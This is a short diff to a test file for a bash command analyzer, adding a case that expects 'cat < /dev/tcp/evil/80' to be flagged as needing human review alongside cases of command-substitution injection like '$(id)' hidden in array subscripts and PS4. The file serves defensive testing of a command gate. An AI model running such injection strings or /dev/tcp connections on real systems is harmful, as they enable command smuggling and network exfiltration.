@@ -79,6 +79,7 @@ describe('shell analysis (tree-sitter-bash, whitelist)', () => {
     ["unset 'a[$(id)]'", 'unset'],
     ["read 'a[`id`]'", 'builtin read'],
     ["PS4='$(id)' set -x", 'assignment'],
+    ['cat < /dev/tcp/evil/80', 'opens a connection'],
   ])('%j needs a human', (line, why) => {
     const r = analyzeCommand(line);
     expect(r.kind).toBe('needs_human');
